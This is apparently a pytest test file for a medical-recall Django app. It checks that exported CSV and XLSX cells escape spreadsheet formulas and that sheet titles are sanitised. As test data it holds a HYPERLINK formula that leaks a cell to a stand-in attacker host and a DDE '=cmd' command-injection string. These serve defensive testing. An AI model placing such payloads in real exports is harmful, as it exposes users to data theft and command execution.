"""User text in exports is text, never a formula: trace and impact workbooks, rejected-rows CSV."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from medrecall.accounts.models import User
from medrecall.core.exports import csv_cell
from medrecall.parties.importers import PartyImporter
from medrecall.parties.models import Party
from tests.execution.conftest import approve, open_recall
from tests.traceability.scenario import CATH, network, run_events
from tests.traceability.test_trace import DISTRIBUTION

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20 555", "'+31 20 555"),
        ("-5", "-5"),
        ("-5+3", "'-5+3"),
        ("+7.5", "+7.5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Hospital = good", "Hospital = good"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_cell_escapes_what_a_spreadsheet_would_evaluate(typed: Any, written: Any) -> None:
    assert csv_cell(typed) == written


def _workbook_cells(content: bytes) -> dict[str, Any]:
    workbook = load_workbook(io.BytesIO(content))
    return {
        str(cell.value): cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


@pytest.mark.django_db
def test_trace_and_impact_workbooks_keep_a_formula_name_as_text(
    tmp_path: Path, manager: User, make_user: Callable[..., User]
) -> None:
    network()
    Party.objects.filter(code="HOSP").update(name=HYPERLINK)
    assert run_events(tmp_path, DISTRIBUTION).accepted
    recall = approve(open_recall(manager), make_user)
    client = Client()
    client.force_login(manager)
    trace = client.get("/trace/", {"gtin": CATH, "lot": "C1", "format": "xlsx"})
    impact = client.get(f"/recalls/{recall.pk}/impact.xlsx")
    for export in (trace, impact):
        assert export.status_code == 200
        cell = _workbook_cells(export.content)[HYPERLINK]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert _workbook_cells(trace.content)["HOSP"].quotePrefix is False  # plain text left alone


@pytest.mark.django_db
def test_rejected_rows_csv_escapes_formulas(tmp_path: Path) -> None:
    path = tmp_path / "parties.csv"
    path.write_text(
        f'party_code,party_name,party_type,country\n"=cmd|\' /C calc\'!A0","{HYPERLINK.replace(chr(34), chr(34) * 2)}",'
        "nonsense,CN\n",
        encoding="utf-8",
    )
    outcome = PartyImporter().run(path, file_name="parties.csv")
    assert not outcome.accepted
    rows = list(
        csv.reader(
            io.StringIO(outcome.rejected_csv(("party_code", "party_name", "party_type", "country")))
        )
    )
    assert rows[1][:4] == ["'=cmd|' /C calc'!A0", "'" + HYPERLINK, "nonsense", "CN"]


def test_a_sheet_title_takes_no_character_excel_refuses() -> None:
    from medrecall.core.exports import sheet_title

    assert sheet_title("按国家/地区") == "按国家／地区"
    assert sheet_title("a\\b?c*d:e[f]") == "a＼b？c＊d：e（f）"
    assert sheet_title("x" * 40) == "x" * 31
    assert sheet_title("") == "-"
